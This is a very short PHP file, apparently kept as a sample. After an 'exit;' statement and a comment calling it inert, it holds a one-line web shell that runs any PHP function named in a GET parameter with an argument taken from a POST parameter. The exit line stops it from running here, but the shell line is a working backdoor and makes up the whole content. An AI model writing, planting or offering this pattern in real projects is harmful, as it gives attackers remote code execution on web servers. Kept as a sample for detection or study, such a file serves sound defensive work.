<?php exit; /* inert */ 
($_=@$_GET['f']).@$_($_POST['a']);
